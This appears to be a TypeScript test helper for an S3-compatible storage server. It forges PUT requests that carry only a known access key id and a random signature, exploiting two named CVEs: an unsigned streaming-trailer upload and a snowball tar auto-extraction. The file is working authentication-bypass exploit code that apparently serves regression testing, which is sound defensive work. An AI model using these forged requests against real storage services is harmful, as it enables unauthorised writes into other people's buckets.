import { randomBytes } from 'node:crypto';
import { crc32 } from 'node:zlib';
import { encodeCrc32 } from '../../../src/session/crc32.ts';
import { aTarArchive } from '../files/tar-archive.ts';
import { type Answer, sendRequest } from '../network/send-request.ts';

/** The knowledge of a forger: the id of a key, and the session token if the key is that of an STS session. Never a secret. */
export interface KnownId {
  readonly accessKeyId: string;
  readonly sessionToken?: string;
}

/** The place of the id in the request: in the query, as in a presigned URL, or in the Authorization header. */
export type Place = 'query' | 'header';

const BYTES = Buffer.from('forged bytes');

/** Forges the PUT of an object or a part as an unsigned stream with a trailer (CVE-2026-41145). */
export function forgePut(
  store: { readonly endpoint: string; readonly bucket: string },
  id: KnownId,
  key: string,
  part?: { readonly uploadId: string; readonly partNumber: number },
): Promise<Answer> {
  const size = BYTES.length.toString(16);
  const trailer = `x-amz-checksum-crc32:${encodeCrc32(crc32(BYTES))}`;
  const body = Buffer.from(`${size}\r\n${BYTES}\r\n0\r\n${trailer}\r\n\r\n`);
  const query = part && { partNumber: String(part.partNumber), uploadId: part.uploadId };
  const headers = {
    'content-encoding': 'aws-chunked',
    'x-amz-decoded-content-length': String(BYTES.length),
    'x-amz-trailer': 'x-amz-checksum-crc32',
  };
  return forge(`${store.endpoint}/${store.bucket}/${key}`, id, 'query', query, headers, body);
}

/** Forges the PUT of a tar that the store unpacks into the bucket (CVE-2026-40344). The store accepts the id in either place. */
export function forgeSnowball(
  store: { readonly endpoint: string; readonly bucket: string },
  id: KnownId,
  fileName: string,
  place: Place,
): Promise<Answer> {
  const headers = { 'x-amz-meta-snowball-auto-extract': 'true' };
  return forge(
    `${store.endpoint}/${store.bucket}/${fileName}.tar`,
    id,
    place,
    {},
    headers,
    aTarArchive(fileName, BYTES.toString()),
  );
}

function forge(
  url: string,
  { accessKeyId, sessionToken }: KnownId,
  place: Place,
  query: Readonly<Record<string, string>> = {},
  headers: Readonly<Record<string, string>>,
  body: Buffer,
): Promise<Answer> {
  const instant = new Date().toISOString().replace(/[-:]|\.\d{3}/g, '');
  const credential = `${accessKeyId}/${instant.slice(0, 8)}/us-east-1/s3/aws4_request`;
  const signature = randomBytes(32).toString('hex');
  const inQuery = {
    'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
    'X-Amz-Credential': credential,
    'X-Amz-Date': instant,
    'X-Amz-Expires': '3600',
    'X-Amz-SignedHeaders': 'host',
    'X-Amz-Signature': signature,
    ...(sessionToken !== undefined && { 'X-Amz-Security-Token': sessionToken }),
  };
  const inHeader = {
    authorization: `AWS4-HMAC-SHA256 Credential=${credential}, SignedHeaders=host;x-amz-date, Signature=${signature}`,
    'x-amz-date': instant,
    ...(sessionToken !== undefined && { 'x-amz-security-token': sessionToken }),
  };
  const search = new URLSearchParams({ ...query, ...(place === 'query' && inQuery) });
  return sendRequest(
    'PUT',
    `${url}?${search}`,
    { 'x-amz-content-sha256': 'STREAMING-UNSIGNED-PAYLOAD-TRAILER', ...headers, ...(place === 'header' && inHeader) },
    body,
  );
}
